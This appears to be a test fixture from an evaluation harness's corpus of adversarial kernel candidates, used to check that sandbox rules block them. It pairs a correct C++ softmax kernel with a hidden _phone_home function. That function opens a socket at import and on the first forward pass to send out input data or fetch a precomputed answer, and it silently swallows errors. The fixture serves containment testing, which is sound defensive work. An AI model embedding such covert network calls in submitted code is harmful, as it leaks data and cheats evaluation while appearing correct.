# problem: problems/softmax_small.py
# expect: static
# reason: network
# runtime: load|run
# runtime_reason: syscall filter
# contained: accepted
# timing: short
"""Tries to send data to a server on 127.0.0.1:PORT at import and on the first forward (to
exfiltrate inputs, or fetch a precomputed answer), swallowing errors so it stays a correct
kernel otherwise. With the static rules off, the syscall filter kills it at `socket`; with the
filter off too it is accepted only because it is contained: the worker has no network (a
separate test checks from outside that a real loopback server receives nothing)."""
import ctypes
import socket

import torch
import torch.nn as nn

from kernelevolve.runtime import load_cpp, ptr

PORT = 1  # the network test rewrites this line to point at its own loopback server


def _phone_home(message: bytes) -> None:
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=0.5) as conn:
            conn.sendall(message)
    except OSError:
        pass


_phone_home(b"kernelevolve-corpus: candidate imported\n")

SRC = r"""
#include <cmath>
#include <cstdint>
extern "C" void softmax_rows(const float* x, float* y, int64_t rows, int64_t cols) {
    #pragma omp parallel for if(rows * cols > 32768)
    for (int64_t r = 0; r < rows; ++r) {
        const float* xr = x + r * cols;
        float* yr = y + r * cols;
        float m = -INFINITY;
        for (int64_t c = 0; c < cols; ++c) m = xr[c] > m ? xr[c] : m;
        double s = 0.0;
        for (int64_t c = 0; c < cols; ++c) { yr[c] = std::exp(xr[c] - m); s += yr[c]; }
        const float inv = static_cast<float>(1.0 / s);
        for (int64_t c = 0; c < cols; ++c) yr[c] *= inv;
    }
}
"""
lib = load_cpp(SRC, name="corpus_softmax")
lib.softmax_rows.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int64, ctypes.c_int64]
lib.softmax_rows.restype = None


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.sent = False

    def forward(self, x):
        if not self.sent:
            self.sent = True
            _phone_home(f"kernelevolve-corpus: input {tuple(x.shape)}\n".encode())
        x = x.contiguous()
        y = torch.empty_like(x)
        lib.softmax_rows(ptr(x), ptr(y), x.shape[0], x.shape[1])
        return y
